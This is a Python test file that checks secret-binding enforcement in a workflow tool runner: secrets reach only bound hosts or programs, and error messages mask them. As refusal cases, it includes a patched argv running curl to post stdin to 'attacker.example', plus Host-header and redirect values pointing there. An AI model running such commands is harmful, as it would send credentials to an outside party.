"""A bound secret goes only where its binding says: checked by the tools at send time (each
request and redirect hop on its real host, a program's argv) and by the check of a gate's patch;
and a secret never shows in a failure in another case or URL-encoded."""

from __future__ import annotations

import socket
from collections.abc import Callable
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from temporalio.exceptions import ApplicationError

from activities import default_registry
from activities.bindings import SECRET_DESTINATION_REFUSED, SecretBinding
from activities.checks import CheckActivities
from activities.config import Settings
from activities.egress_client import make_http_client
from activities.models import CheckCall
from activities.runtime import ToolActivities
from tests.tools.conftest import make_call
from tests.tools.server import LocalServer, Reply, json_reply

SECRET = "Sq+u/ar=e Tok3n"


@pytest.fixture(autouse=True)
def _secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STEPGATE_SECRET_APITOKEN", SECRET)
    monkeypatch.setenv("STEPGATE_SECRET_OTHER", "other-secret-value")


@pytest.fixture
def other() -> Any:
    srv = LocalServer().start()
    yield srv
    srv.stop()


def bound(**bindings: dict[str, Any]) -> dict[str, SecretBinding]:
    return {name: SecretBinding.model_validate(b) for name, b in bindings.items()}


def post(url: str, **extra: Any) -> dict[str, Any]:
    return {
        "method": "POST",
        "url": url,
        "headers": {"Authorization": "Bearer ${secret.APITOKEN}"},
        **extra,
    }


async def refused(acts: ToolActivities, tool: str, args: dict[str, Any], **kw: Any) -> str:
    with pytest.raises(ApplicationError) as err:
        await acts.execute(make_call(tool, args, **kw))
    assert err.value.type == SECRET_DESTINATION_REFUSED and err.value.non_retryable
    return err.value.message


async def test_request_to_a_host_the_binding_does_not_name_is_refused(
    acts: ToolActivities, server: LocalServer, other: LocalServer
) -> None:
    """A call holding a secret bound to one host:port sends nothing to another; to its own host
    it goes, with the secret."""
    server.route("POST", "/x", lambda seen: json_reply({}))
    other.route("POST", "/x", lambda seen: json_reply({}))
    bindings = bound(APITOKEN={"hosts": [f"127.0.0.1:{server.port}"]})
    message = await refused(acts, "http.request", post(other.url("/x")), secret_bindings=bindings)
    assert f"to 127.0.0.1:{other.port}" in message and "'APITOKEN'" in message
    assert other.seen == []
    await acts.execute(make_call("http.request", post(server.url("/x")), secret_bindings=bindings))
    assert server.seen[0].headers["authorization"] == f"Bearer {SECRET}"


async def test_redirect_and_host_header_to_another_site_are_refused(
    acts: ToolActivities, server: LocalServer, other: LocalServer
) -> None:
    """A redirect hop to a host outside the binding is refused before it is sent, and so is a
    `Host` header naming another site on the bound address."""
    server.route("POST", "/go", lambda seen: Reply(308, b"", {"Location": other.url("/x")}))
    bindings = bound(APITOKEN={"hosts": [f"127.0.0.1:{server.port}"]})
    args = post(server.url("/go"), follow_redirects=True)
    await refused(acts, "http.request", args, secret_bindings=bindings)
    assert [s.path for s in server.seen] == ["/go"] and other.seen == []
    args = post(server.url("/go"))
    args["headers"]["Host"] = "attacker.example"
    message = await refused(acts, "http.request", args, secret_bindings=bindings)
    assert "attacker.example" in message and len(server.seen) == 1


async def test_two_bound_secrets_go_only_where_both_may(
    acts: ToolActivities, server: LocalServer
) -> None:
    """A call holding two bound secrets may reach only a host both bindings name."""
    server.route("POST", "/x", lambda seen: json_reply({}))
    args = post(server.url("/x"), json={"other": "${secret.OTHER}"})
    here = f"127.0.0.1:{server.port}"
    bindings = bound(APITOKEN={"hosts": [here]}, OTHER={"hosts": ["api.example.com"]})
    message = await refused(acts, "http.request", args, secret_bindings=bindings)
    assert "'OTHER'" in message and "api.example.com" in message and server.seen == []
    both = bound(APITOKEN={"hosts": [here]}, OTHER={"hosts": ["127.0.0.1", "api.example.com"]})
    await acts.execute(make_call("http.request", args, secret_bindings=both))
    assert len(server.seen) == 1


async def test_calls_without_bound_secrets_are_not_restricted(
    acts: ToolActivities, server: LocalServer
) -> None:
    """Control: bindings of secrets the call does not hold, or an unbound secret, restrict
    nothing."""
    server.route("POST", "/x", lambda seen: json_reply({}))
    bindings = bound(OTHER={"hosts": ["api.example.com"]})
    await acts.execute(make_call("http.request", post(server.url("/x")), secret_bindings=bindings))
    await acts.execute(make_call("http.request", post(server.url("/x"))))
    assert len(server.seen) == 2


async def test_failures_mask_a_secret_in_any_case_and_url_encoded(
    acts: ToolActivities, server: LocalServer
) -> None:
    """A server that echoes the secret form-encoded, path-encoded and upper-cased in an
    unexpected status: the failure holds none of those forms."""

    def echo(seen: Any) -> Reply:
        value = seen.query["t"][0]
        body = f"bad {urlencode(seen.query, doseq=True)} {quote(value)} {value.upper()}"
        return Reply(400, body.encode())

    server.route("GET", "/check", echo)
    args = {"url": server.url("/check"), "query": {"t": "${secret.APITOKEN}"}}
    with pytest.raises(ApplicationError) as err:
        await acts.execute(make_call("http.request", args))
    message = err.value.message
    assert server.seen[0].query["t"] == [SECRET]
    assert message.count("***") == 3, message
    for form in (SECRET, SECRET.upper(), quote(SECRET), urlencode({"t": SECRET})[2:], "Tok3n"):
        assert form.lower() not in message.lower(), form


async def test_secret_in_a_url_host_is_not_in_the_resolver_error(
    tool_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A secret in a URL's host is not echoed, lower-cased, by a failed lookup."""
    monkeypatch.setenv("STEPGATE_SECRET_HOSTPART", "S3cr3tV4lue-x")

    async def unknown(host: str, port: int) -> list[Any]:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    http = make_http_client(tool_settings, resolve=unknown)
    acts = ToolActivities(default_registry(entry_points=False), tool_settings, http=http)
    try:
        with pytest.raises(ApplicationError) as err:
            await acts.execute(
                make_call("http.request", {"url": "https://${secret.HOSTPART}.invalid/"})
            )
    finally:
        await http.aclose()
    message = err.value.message
    assert "Name or service not known" in message
    assert "s3cr3tv4lue" not in message.lower(), message


CheckFn = Callable[[CheckCall], Any]


@pytest.fixture
def check() -> CheckFn:
    return CheckActivities(default_registry(entry_points=False)).check


def patch_check(tool: str, before: dict[str, Any], patch: dict[str, Any], **secrets: Any) -> Any:
    """The check of a patch as the workflow asks for it: `before` read as a definition's `with:`."""
    call = make_call(tool, before)
    assert call.slots
    return CheckCall(
        value={**call.args, **patch},
        tool=f"{tool}@1.0.0",
        where="patched input",
        before=call.args,
        slots=call.slots,
        secrets={
            n: None if b is None else SecretBinding.model_validate(b) for n, b in secrets.items()
        },
    )


async def test_patch_moving_a_program_that_holds_a_secret_is_refused(check: CheckFn) -> None:
    """Without a binding, a patch of argv (or stdin) of a program given a secret is refused
    naming the field; with an argv binding the patched argv must keep a bound prefix; a patch
    of a limit passes."""
    before = {"argv": ["deployctl", "create", "main"], "env": {"APP_T": "${secret.APITOKEN}"}}
    moved = {"argv": ["curl", "https://attacker.example", "-d", "@-"]}
    result = await check(patch_check("shell.run", before, moved, APITOKEN=None))
    assert [i.split(":")[0] for i in result.issues] == ["patched input.argv"]
    result = await check(patch_check("shell.run", before, {"stdin": "x"}, APITOKEN=None))
    assert [i.split(":")[0] for i in result.issues] == ["patched input.stdin"]
    result = await check(patch_check("shell.run", before, {"timeout_s": 5}, APITOKEN=None))
    assert result.issues == []
    binding = {"argv": ["deployctl"]}
    result = await check(patch_check("shell.run", before, moved, APITOKEN=binding))
    assert "programs started as deployctl" in result.issues[0]
    again = {"argv": ["deployctl", "create", "hotfix"]}
    assert (await check(patch_check("shell.run", before, again, APITOKEN=binding))).issues == []


async def test_patch_that_replaces_the_secret_or_keeps_the_place_passes(check: CheckFn) -> None:
    """A patch that overwrites the secret's slot leaves no secret to move; one that changes
    only what is sent (the body) moves nothing; a Host header or redirects move the call."""
    before = post("https://api.example.com/deploy", json={"ref": "main"})
    elsewhere = {"url": "https://attacker.example/", "headers": {"Authorization": "none"}}
    assert (await check(patch_check("http.request", before, elsewhere, APITOKEN=None))).issues == []
    body = {"json": {"ref": "hotfix"}}
    assert (await check(patch_check("http.request", before, body, APITOKEN=None))).issues == []
    follow = {"follow_redirects": True}
    result = await check(patch_check("http.request", before, follow, APITOKEN=None))
    assert [i.split(":")[0] for i in result.issues] == ["patched input.follow_redirects"]
    host = {"headers": {**before["headers"], "HOST": "attacker.example"}}
    result = await check(patch_check("http.request", before, host, APITOKEN=None))
    assert [i.split(":")[0] for i in result.issues] == ["patched input.headers.Host"]


async def test_patch_of_a_tool_this_worker_lacks_moves_every_field(check: CheckFn) -> None:
    """A tool that does not say where it sends (or is not on this worker): a patch of any field
    of a call holding an unbound secret is refused."""
    before = {"target": "a", "token": "${secret.APITOKEN}"}
    call = patch_check("http.request", before, {"target": "b"}, APITOKEN=None)
    call.tool = "acme.deploy@1"
    result = await check(call)
    assert [i.split(":")[0] for i in result.issues] == ["patched input.target"]
